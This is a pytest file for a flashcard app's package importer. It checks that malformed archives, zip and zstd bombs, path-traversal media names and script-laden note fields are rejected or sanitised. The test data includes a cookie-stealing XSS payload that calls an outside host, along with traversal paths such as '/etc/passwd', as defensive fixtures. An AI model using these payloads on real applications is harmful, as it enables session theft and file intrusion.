"""Hostile and broken packages: a clear error, and nothing written (database, media, files)."""

from __future__ import annotations

import pytest
from sqlmodel import select

from cehrs_cards.db.models import Card, Deck, Note, NoteType, RevLog
from cehrs_cards.interchange.apkg_read import read_apkg
from cehrs_cards.interchange.package import DeckFormatError
from cehrs_cards.interchange.zipsafe import Limits, PackageError, safe_media_name
from cehrs_cards.services.transfer import ImportOptions, import_file
from tests.interchange import hostile


def snapshot(col):
    """Everything an import could change: every row of every table, and the data folder."""
    with col.read() as s:
        rows = tuple(
            tuple(sorted(map(repr, s.exec(select(m)))))
            for m in (Note, Card, Deck, NoteType, RevLog)
        )
    files = sorted(str(p.relative_to(col.data_dir)) for p in col.data_dir.rglob("*"))
    files = [f for f in files if not f.startswith("collection.sqlite")]
    return rows, files


CASES = {
    "not a zip": (lambda m, d: hostile.not_a_zip(d), "not a zip file"),
    "truncated zip": (lambda m, d: hostile.truncated(m["anki21b"], d), "truncated"),
    "empty package": (lambda m, d: hostile.empty(d), "empty package"),
    "corrupt sqlite": (lambda m, d: hostile.corrupt_sqlite(m["anki21"], d), "damaged"),
    "damaged index, readable tables": (
        lambda m, d: hostile.damaged_unused_index(m["anki21"], d),
        "fails SQLite's checks|damaged",
    ),
    "garbage zstd": (lambda m, d: hostile.garbage_zstd(m["anki21b"], d), "zstd"),
    "dummy only": (lambda m, d: hostile.dummy_only(m["anki21b"], d), "placeholder"),
    "meta too new": (lambda m, d: hostile.meta_too_new(m["anki21b"], d), "newer Anki"),
    "unknown schema": (lambda m, d: hostile.schema_unknown(m["anki21"], d), "schema 99"),
    "malformed rows": (
        lambda m, d: hostile.edited_collection(m["anki21"], d, "rows", "UPDATE cards SET ord='x'"),
        "malformed rows",
    ),
    "malformed note types": (
        lambda m, d: hostile.edited_collection(
            m["anki21"], d, "models", "UPDATE col SET models='[1]'"
        ),
        "damaged",
    ),
    "zip bomb (declared)": (lambda m, d: hostile.declared_bomb(d), "zip bomb"),
    "traversal (legacy)": (
        lambda m, d: hostile.legacy_media_name(m["anki21"], d, "../../evil.png", "dots"),
        "unsafe media file name",
    ),
    "absolute path": (
        lambda m, d: hostile.legacy_media_name(m["anki21"], d, "/tmp/evil.png", "abs"),
        "unsafe media file name",
    ),
    "windows path": (
        lambda m, d: hostile.legacy_media_name(m["anki21"], d, "C:\\evil.png", "win"),
        "unsafe media file name",
    ),
    "traversal (current)": (
        lambda m, d: hostile.current_media_name(m["anki21b"], d, "../evil.png"),
        "unsafe media file name",
    ),
    "absurdly large field": (
        lambda m, d: hostile.genanki_notes(d, "big.apkg", [["x" * 2_000_001, "b"], ["ok", "ok"]]),
        "limit is 1,000,000",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_package_is_rejected_and_nothing_changes(mini_col, made, tmp_path, case):
    make, message = CASES[case]
    path = make(made, tmp_path)
    before = snapshot(mini_col)
    with pytest.raises(DeckFormatError, match=message):
        import_file(mini_col, path)
    assert snapshot(mini_col) == before
    assert not (tmp_path.parent / "evil.png").exists() and not (tmp_path / "evil.png").exists()


def test_real_zip_bomb_is_stopped_by_the_total_cap(tmp_path):
    path = hostile.real_bomb(tmp_path, 8 * 1024 * 1024)
    with pytest.raises(PackageError, match="zip bomb"):
        read_apkg(path, limits=Limits(max_total=1024 * 1024))


def test_zstd_bomb_inside_the_zip_is_stopped_while_unpacking(made, tmp_path):
    path = hostile.zstd_bomb(made["anki21b"], tmp_path, 16 * 1024 * 1024)
    with pytest.raises(PackageError, match="larger than we accept"):
        read_apkg(path, limits=Limits(max_member=4 * 1024 * 1024))


def test_lying_sizes_fail_the_checksum(tmp_path):
    path = hostile.declared_bomb(tmp_path, declared=1000)
    with pytest.raises(PackageError, match=r"cannot be read|damaged"):
        read_apkg(path)


@pytest.mark.parametrize(
    "name",
    ["..", "../x", "a/b.png", "a\\b.png", "/etc/passwd", "C:x.png", ".hidden", "con.png", "a\0b"],
)
def test_unsafe_media_names_are_refused(name):
    with pytest.raises(PackageError):
        safe_media_name(name)


def test_plain_media_names_pass():
    assert safe_media_name("image 1 (copy).png") == "image 1 (copy).png"
    assert safe_media_name("résumé.jpg") == "résumé.jpg"


def test_scripts_and_event_handlers_are_sanitised_on_import(col, tmp_path):
    evil = (
        '<script>fetch("http://x/?"+document.cookie)</script>Q<img src="a.png" onerror="alert(1)">'
        '<a href="javascript:alert(2)">link</a><div onclick="x()">d</div>'
        '<iframe src="http://evil"></iframe><img src="http://remote/t.gif">'
    )
    path = hostile.genanki_notes(tmp_path, "script.apkg", [[evil, "<b onmouseover=x()>A</b>"]])
    result = import_file(col, path)
    assert result.summary.added == 1
    with col.read() as s:
        stored = s.exec(select(Note)).one().fields
    for bad in ("script", "onerror", "onclick", "onmouseover", "javascript", "iframe", "http"):
        assert bad not in stored
    assert "Q" in stored and 'src=\\"a.png\\"' in stored and "<b>A</b>" in stored


def test_scheduling_that_is_not_a_number_is_refused_before_anything_is_written(
    mini_col, made, tmp_path
):
    """The open-time check vets the cards' scheduling in SQL (apkg_notes.check): a text due
    is refused with scheduling, and never read (so no matter) without it."""
    path = hostile.edited_collection(made["anki21"], tmp_path, "due", "UPDATE cards SET due='x'")
    before = snapshot(mini_col)
    with pytest.raises(DeckFormatError, match="malformed rows"):
        import_file(mini_col, path, ImportOptions(with_scheduling=True))
    assert snapshot(mini_col) == before
    assert import_file(mini_col, path).summary.added > 0


def test_card_data_nested_too_deep_is_ignored_like_any_unreadable_memory_state(
    mini_col, made, tmp_path
):
    deep = "[" * 50_000 + "]" * 50_000
    sql = f"UPDATE cards SET type = 2, queue = 2, ivl = 3, data = '{deep}'"
    path = hostile.edited_collection(made["anki21"], tmp_path, "deep", sql)
    result = import_file(mini_col, path, ImportOptions(with_scheduling=True))
    assert result.summary.added > 0
    with mini_col.read() as s:
        cards = s.exec(select(Card)).all()
    review = [c for c in cards if c.state == 2 and c.stability is not None]  # ease, interval
    assert len(review) == result.summary.cards_added > 0
